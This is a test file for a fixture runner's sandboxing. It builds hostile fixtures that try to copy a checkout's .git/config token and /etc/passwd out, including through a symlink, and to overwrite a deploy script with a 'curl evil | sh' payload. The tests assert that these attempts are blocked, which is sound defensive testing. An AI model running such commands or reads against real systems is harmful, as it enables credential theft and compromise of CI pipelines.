// Hostile fixture (a pull request in CI) using only built-in plugins: the
// manifest grants file-send read and write everywhere, so without the
// runner's confinement a fixture reads the checkout's .git/config (where
// GitHub Actions keeps its token) or /etc/passwd, and overwrites the
// checkout's scripts. Isolated, the runner narrows file grants to the
// fixture's folder (read), the run's temp folder and --allow-files dirs.
import assert from "node:assert/strict";
import { join } from "node:path";
import { commandOutput } from "../_support/command.ts";
import { runFixtures } from "../../lib/runner/mod.ts";
import type { FixtureEndEvent, RunEvent } from "../../lib/runner/mod.ts";

const CLI = new URL("../../lib/cli/main.ts", import.meta.url).pathname;
const SECRET = "ghs_confine_secret_token";

/** A checkout: root/.git/config (a secret), root/ci/deploy.sh, root/fixtures/, and a loot folder outside. */
async function checkout(): Promise<AsyncDisposable & { root: string; loot: string }> {
  const base = await Deno.makeTempDir({ prefix: "wiretest-confine-" });
  const root = join(base, "root");
  const loot = join(base, "loot");
  for (const d of [".git", "ci", "fixtures", "fixtures/data"]) {
    await Deno.mkdir(join(root, d), { recursive: true });
  }
  await Deno.mkdir(loot);
  await Deno.writeTextFile(join(root, ".git/config"), `[http]\n\textraheader = ${SECRET}\n`);
  await Deno.writeTextFile(join(root, "ci/deploy.sh"), "echo deploy\n");
  await Deno.writeTextFile(join(root, "fixtures/data/payload.sh"), "curl evil | sh\n");
  return {
    root,
    loot,
    [Symbol.asyncDispose]: () => Deno.remove(base, { recursive: true }),
  };
}

function sendFixture(name: string, dir: string, file: string, as: string): string {
  return `name: ${name}
services:
  sink: { plugin: file-send, with: { dir: "${dir}", overwrite: true } }
steps:
  - plugin: file-send
    with: { file: "${file}", target: "\${services.sink.addr}", name: ${as} }
`;
}

async function cli(
  root: string,
  args: string[],
): Promise<{ code: number; stdout: string; stderr: string }> {
  const out = await commandOutput(Deno.execPath(), {
    args: ["run", "-A", CLI, "test", ...args],
    cwd: root,
    env: { NO_COLOR: "1" },
  }, 90_000);
  const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { code: out.code, stdout: decode(out.stdout), stderr: decode(out.stderr) };
}

Deno.test("wiretest test: a fixture cannot send the checkout's .git/config nor /etc/passwd", async () => {
  await using c = await checkout();
  await Deno.writeTextFile(
    join(c.root, "fixtures/git.wire.yaml"),
    sendFixture("git", c.loot, "${env.WIRETEST_FIXTURE_DIR}/../.git/config", "config"),
  );
  await Deno.writeTextFile(
    join(c.root, "fixtures/passwd.wire.yaml"),
    sendFixture("passwd", c.loot, "/etc/passwd", "passwd"),
  );
  // At the checkout's root, .git is inside the fixture's folder: still denied.
  await Deno.writeTextFile(
    join(c.root, "root.wire.yaml"),
    sendFixture("root-git", c.loot, "${env.WIRETEST_FIXTURE_DIR}/.git/config", "config"),
  );
  // A symlink in the fixture's folder leading out (Deno checks the path, not its target).
  await Deno.symlink("/etc/passwd", join(c.root, "fixtures/data/passwd"));
  await Deno.writeTextFile(
    join(c.root, "fixtures/link.wire.yaml"),
    sendFixture("link", c.loot, "${env.WIRETEST_FIXTURE_DIR}/data/passwd", "linked"),
  );
  // The loot folder is allowed: only the reads can be what stops them.
  const { code, stdout } = await cli(c.root, [
    "--allow-files",
    c.loot,
    "fixtures",
    "root.wire.yaml",
  ]);
  assert.equal(code, 1, stdout);
  assert.match(stdout, /0 passed, 4 failed/, stdout);
  assert.match(stdout, /permission denied: read access to "[^"]*\/root\/\.git\/config"/, stdout);
  assert.match(stdout, /permission denied: read access to "[^"]*\/fixtures\/data\/passwd"/, stdout);
  assert.match(stdout, /permission denied: read access to "[^"]*\.git\/config"/, stdout);
  assert.match(stdout, /permission denied: read access to "\/etc\/passwd"/, stdout);
  assert.ok(!stdout.includes(SECRET), stdout);
  assert.deepEqual([...Deno.readDirSync(c.loot)], []);
});

Deno.test("wiretest test: a fixture cannot overwrite a file in its own checkout", async () => {
  await using c = await checkout();
  await Deno.writeTextFile(
    join(c.root, "fixtures/overwrite.wire.yaml"),
    sendFixture(
      "overwrite",
      "${env.WIRETEST_FIXTURE_DIR}/../ci",
      "${env.WIRETEST_FIXTURE_DIR}/data/payload.sh",
      "deploy.sh",
    ),
  );
  await Deno.writeTextFile(
    join(c.root, "fixtures/overwrite_own.wire.yaml"),
    sendFixture(
      "overwrite-own",
      "${env.WIRETEST_FIXTURE_DIR}/data",
      "${env.WIRETEST_FIXTURE_DIR}/data/payload.sh",
      "x.sh",
    ),
  );
  const { code, stdout } = await cli(c.root, ["fixtures"]);
  assert.notEqual(code, 0, stdout);
  assert.doesNotMatch(stdout, /\bpassed\b.*overwrite|1 passed|2 passed/, stdout);
  assert.match(stdout, /permission denied: (read|write) access to "[^"]*\/root\/ci"/, stdout);
  // The receiver's refusal says why, without its paths (they stay in its own log).
  assert.match(stdout, /Cannot store file: the receiver is not permitted to write there/, stdout);
  assert.equal(await Deno.readTextFile(join(c.root, "ci/deploy.sh")), "echo deploy\n");
  assert.deepEqual([...Deno.readDirSync(join(c.root, "fixtures/data"))].map((e) => e.name), [
    "payload.sh",
  ]);
});

Deno.test("wiretest test: --allow-files allows that folder and the fixture's own files, nothing else", async () => {
  await using c = await checkout();
  await Deno.writeTextFile(
    join(c.root, "fixtures/ok.wire.yaml"),
    sendFixture("ok", c.loot, "${env.WIRETEST_FIXTURE_DIR}/data/payload.sh", "payload.sh"),
  );
  // Without the flag the loot folder is out of bounds.
  const denied = await cli(c.root, ["fixtures"]);
  assert.notEqual(denied.code, 0, denied.stdout);
  assert.match(
    denied.stdout,
    /permission denied: (read|write) access to "[^"]*loot"/,
    denied.stdout,
  );
  assert.deepEqual([...Deno.readDirSync(c.loot)], []);
  const allowed = await cli(c.root, ["--allow-files", c.loot, "fixtures"]);
  assert.equal(allowed.code, 0, allowed.stdout);
  assert.equal(await Deno.readTextFile(join(c.loot, "payload.sh")), "curl evil | sh\n");
  // Not confined, and says so.
  const open = await cli(c.root, ["--no-isolation", "fixtures"]);
  assert.equal(open.code, 0, open.stdout);
  assert.match(open.stderr, /--no-isolation: .*never use it for untrusted fixtures/);
});

Deno.test("runFixtures: reading ../.git/config fails with a permission error; --no-isolation is not confined", async () => {
  await using c = await checkout();
  const file = join(c.root, "fixtures/git.wire.yaml");
  await Deno.writeTextFile(
    file,
    sendFixture("git", c.loot, "${env.WIRETEST_FIXTURE_DIR}/../.git/config", "config"),
  );
  const events: RunEvent[] = [];
  const isolated = await runFixtures({
    paths: [file],
    allowFiles: [c.loot],
    reporters: [{ onEvent: (event) => void events.push(event) }],
  });
  const end: FixtureEndEvent = isolated.fixtures[0];
  assert.equal(end.status, "failed", JSON.stringify(end));
  const text = JSON.stringify(events);
  assert.match(text, /"name":"PermissionDeniedError"/, text);
  assert.match(text, /permission denied: read access to \\"[^"\\]*\.git\/config\\"/, text);
  assert.ok(!text.includes(SECRET), text);
  assert.deepEqual([...Deno.readDirSync(c.loot)], []);
  // The documented limit: in-process, plugins have the runner's rights.
  const inProcess = await runFixtures({ paths: [file], isolation: false });
  assert.equal(inProcess.fixtures[0].status, "passed");
  assert.match(await Deno.readTextFile(join(c.loot, "config")), new RegExp(SECRET));
});
